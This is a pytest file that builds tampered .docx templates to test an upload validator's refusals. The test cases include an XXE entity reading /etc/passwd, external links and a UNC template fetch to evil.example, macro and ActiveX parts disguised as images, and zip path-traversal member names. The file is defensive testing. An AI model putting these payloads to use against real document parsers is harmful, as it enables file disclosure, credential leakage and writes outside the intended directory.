"""What an uploaded .docx may carry, read as the package it is (probe finding 3; shared/security-checklist.md rows
6-9): relationships, content types, settings and every XML part are parsed, not searched for bytes, so quoting,
spacing, case, encoding or a harmless-looking part name do not hide an external link, a macro or a DOCTYPE.

Each malicious file is built from the real ``letter_templates/section_25b/antrag.docx`` by rewriting parts with
zipfile, and sent as a replacement for that template through the console; the refusal names the part and nothing
is written."""
from __future__ import annotations

import io
import warnings
import zipfile
from pathlib import Path

import pytest

from perspektive.documents.template_checks import docx_problems
from tests.conftest import SHIPPED, csrf_token
from tests.documents.test_workflow_upload import (
    console_app,
    example,
    generic_templates,
    problems_of,
    snapshot,
    text,
    upload,
)

REAL = SHIPPED / "letter_templates" / "section_25b" / "antrag.docx"
RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


@pytest.fixture
def app(tmp_path):
    yield from console_app(tmp_path)


def rewritten(change: dict | None = None, extra: list[tuple[str, bytes]] = ()) -> bytes:
    """The real Antrag with parts changed (name -> function of the old bytes) and parts added (duplicates
    allowed: a zip can hold one name twice)."""
    out = io.BytesIO()
    with zipfile.ZipFile(REAL) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target, \
            warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)  # "Duplicate name"
        for info in source.infolist():
            data = source.read(info)
            target.writestr(info.filename, (change or {}).get(info.filename, lambda d: d)(data))
        for name, data in extra:
            target.writestr(name, data)
    return out.getvalue()


def _add_relationship(attributes: str):
    def change(data: bytes) -> bytes:
        return data.replace(b"</Relationships>", b"<Relationship " + attributes.encode() + b"/></Relationships>")
    return change


def _add_content_type(entry: str):
    def change(data: bytes) -> bytes:
        return data.replace(b"</Types>", entry.encode() + b"</Types>")
    return change


def _doctype_in(encoding: str, bom: bytes):
    """document.xml re-encoded (declaration says UTF-16), with an external entity that would read /etc/passwd."""
    def change(data: bytes) -> bytes:
        xml = data.decode("utf-8").replace("encoding='UTF-8'", "encoding='UTF-16'").replace(
            'encoding="UTF-8"', 'encoding="UTF-16"')
        declaration_end = xml.index("?>") + 2
        xml = (xml[:declaration_end] + '<!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
               + xml[declaration_end:].replace("</w:body>", "<w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body>", 1))
        return bom + xml.encode(encoding)
    return change


def _attached_template(target: str, mode: str):
    settings = _insert_settings('<w:attachedTemplate r:id="rIdTpl"/>')
    rels = (f"<?xml version='1.0' encoding='UTF-8' standalone='yes'?>\n<Relationships xmlns="
            f"\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rIdTpl\" "
            f"Type=\"{RELS}/attachedTemplate\" Target=\"{target}\"{mode}/></Relationships>").encode()
    return {"word/settings.xml": settings}, [("word/_rels/settings.xml.rels", rels)]


def _insert_settings(element: str):
    def change(data: bytes) -> bytes:
        head, sep, tail = data.partition(b'<w:zoom ')
        return head + element.encode() + sep + tail
    return change


EXTERNAL_IMAGE = f"Id='rIdX' Type='{RELS}/image' Target='http://evil.example/x.png'"
CASES = [
    # row 8: external relationships, however the attribute is written
    ("8 single quotes", {"word/_rels/document.xml.rels": _add_relationship(EXTERNAL_IMAGE + " TargetMode='External'")},
     [], "word/_rels/document.xml.rels", "externes Ziel"),
    ("8 spaces around =", {"word/_rels/document.xml.rels": _add_relationship(
        EXTERNAL_IMAGE + ' TargetMode = "External"')}, [], "word/_rels/document.xml.rels", "externes Ziel"),
    ("8 other case", {"_rels/.rels": _add_relationship(EXTERNAL_IMAGE + ' TargetMode="EXTERNAL"')}, [],
     "_rels/.rels", "externes Ziel"),
    ("8 URL as internal target", {"word/_rels/document.xml.rels": _add_relationship(EXTERNAL_IMAGE)}, [],
     "word/_rels/document.xml.rels", "außerhalb der Datei"),
    ("8 attachedTemplate external", *_attached_template(r"file:///\\evil.example\share\t.dotm",
                                                        " TargetMode = 'External'"),
     "word/settings.xml", "attachedTemplate"),
    ("8 attachedTemplate to a missing part", *_attached_template("vorlage.dotm", ""), "word/settings.xml",
     "attachedTemplate"),
    # row 7: macro, ActiveX and OLE content types under any part name
    ("7 macro-enabled main part", {"[Content_Types].xml": lambda d: d.replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.MacroEnabled.main+xml")}, [], "word/document.xml",
     "Inhaltstyp für Makros, ActiveX oder OLE-Objekte (application/vnd.ms-word.document.MacroEnabled.main+xml)"),
    ("7 vbaProject named like a picture", {"[Content_Types].xml": _add_content_type(
        '<Override PartName="/word/media/logo.png" ContentType="application/vnd.ms-office.vbaProject"/>')},
     [("word/media/logo.png", b"\xd0\xcf\x11\xe0 vba")], "word/media/logo.png",
     "Inhaltstyp für Makros, ActiveX oder OLE-Objekte (application/vnd.ms-office.vbaProject)"),
    ("7 ActiveX control", {"[Content_Types].xml": _add_content_type(
        "<Override PartName='/word/controls/c1.xml' ContentType='application/vnd.ms-office.activeX+xml'/>")},
     [("word/controls/c1.xml", b"<ax:ocx xmlns:ax='http://schemas.microsoft.com/office/2006/activeX'/>")],
     "word/controls/c1.xml", "(application/vnd.ms-office.activeX+xml)"),
    ("7 OLE object by extension", {"[Content_Types].xml": _add_content_type(
        '<Default Extension="dat" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>')},
     [("word/embeddings/thing.dat", b"\xd0\xcf\x11\xe0")], "[Content_Types].xml",
     "(application/vnd.openxmlformats-officedocument.oleObject)"),
    # row 6: a DOCTYPE in any encoding and any XML part
    ("6 UTF-16 LE with BOM", {"word/document.xml": _doctype_in("utf-16-le", b"\xff\xfe")}, [],
     "word/document.xml", "Dokumenttyp-Deklaration"),
    ("6 UTF-16 BE with BOM", {"word/document.xml": _doctype_in("utf-16-be", b"\xfe\xff")}, [],
     "word/document.xml", "Dokumenttyp-Deklaration"),
    ("6 UTF-16 LE without BOM", {"word/document.xml": _doctype_in("utf-16-le", b"")}, [],
     "word/document.xml", "Dokumenttyp-Deklaration"),
    ("6 UTF-16 BE without BOM", {"word/document.xml": _doctype_in("utf-16-be", b"")}, [],
     "word/document.xml", "Dokumenttyp-Deklaration"),
    ("6 DOCTYPE in a relationships part", {"word/_rels/document.xml.rels": lambda d: d.replace(
        b"?>", b'?><!DOCTYPE Relationships SYSTEM "http://evil.example/r.dtd">', 1)}, [],
     "word/_rels/document.xml.rels", "Dokumenttyp-Deklaration"),
    # row 9: member names that point outside, and a name held twice (which copy would a reader take?)
    ("9 parent directory", {}, [("word/../../evil.xml", b"<a/>")], "word/../../evil.xml", "Teilname"),
    ("9 absolute path", {}, [("/etc/evil.xml", b"<a/>")], "/etc/evil.xml", "Teilname"),
    ("9 drive letter", {}, [("C:/evil.xml", b"<a/>")], "C:/evil.xml", "Teilname"),
    ("9 duplicate member", {}, [("word/document.xml", b"<w:document xmlns:w='" + W.encode() + b"'/>")],
     "word/document.xml", "doppelt"),
]


def send(http, content: bytes):
    token = csrf_token(text(http.get("/admin/templates/")))
    return http.post("/admin/templates/section_25b/antrag", data={
        "csrf_token": token, "template": (io.BytesIO(content), "antrag.docx")}, content_type="multipart/form-data")


@pytest.mark.parametrize("case, change, extra, part, reason", CASES, ids=[c[0] for c in CASES])
def test_the_package_is_parsed_and_an_unsafe_part_is_named(case, change, extra, part, reason):
    """Probe finding 3, checklist rows 6-9: each of these passed the byte search."""
    [problem] = docx_problems("antrag", rewritten(change, extra))
    assert (problem.file, problem.key) == ("antrag.docx", part), case
    assert reason in problem.text, case
    assert "root:" not in problem.text


@pytest.mark.parametrize("case, change, extra, part, reason", CASES[::3], ids=[c[0] for c in CASES[::3]])
def test_a_replaced_template_with_an_unsafe_part_is_refused_and_nothing_is_written(app, admin_http, case, change,
                                                                                   extra, part, reason):
    """Probe finding 3, checklist rows 6-9, through the console: 422, the part named, the old template kept."""
    folder = Path(app.config["LETTER_TEMPLATES_DIR"]) / "section_25b"
    before = snapshot(app)
    response = send(admin_http, rewritten(change, extra))
    assert response.status_code == 422, case
    problems = problems_of(response)
    assert f"<td><code>antrag.docx</code></td><td><code>{part}</code></td>" in problems, case
    assert reason in problems
    assert "root:" not in text(response)
    assert snapshot(app) == before
    assert not [p for p in folder.iterdir() if p.name.startswith(".upload-")]


def test_a_new_workflow_with_an_external_template_is_refused(app, admin_http):
    """Probe finding 3, row 8: the same check guards a new provision's templates."""
    before = snapshot(app)
    [_, change, extra, part, _] = CASES[0]
    response = upload(admin_http, *example(), antrag=rewritten(change, extra),
                      checkliste=generic_templates()["checkliste"])
    assert response.status_code == 422
    assert f"<td><code>antrag.docx</code></td><td><code>{part}</code></td>" in problems_of(response)
    assert snapshot(app) == before


def test_every_shipped_template_and_a_plain_rezip_pass(app, admin_http):
    """Probe finding 3, checklist rows 6-9: the checks refuse what could act outside the letter, not what Word and
    LibreOffice write."""
    for path in sorted((SHIPPED / "letter_templates").glob("*/*.docx")):
        assert docx_problems(path.stem, path.read_bytes()) == [], path
    assert send(admin_http, rewritten()).status_code == 303
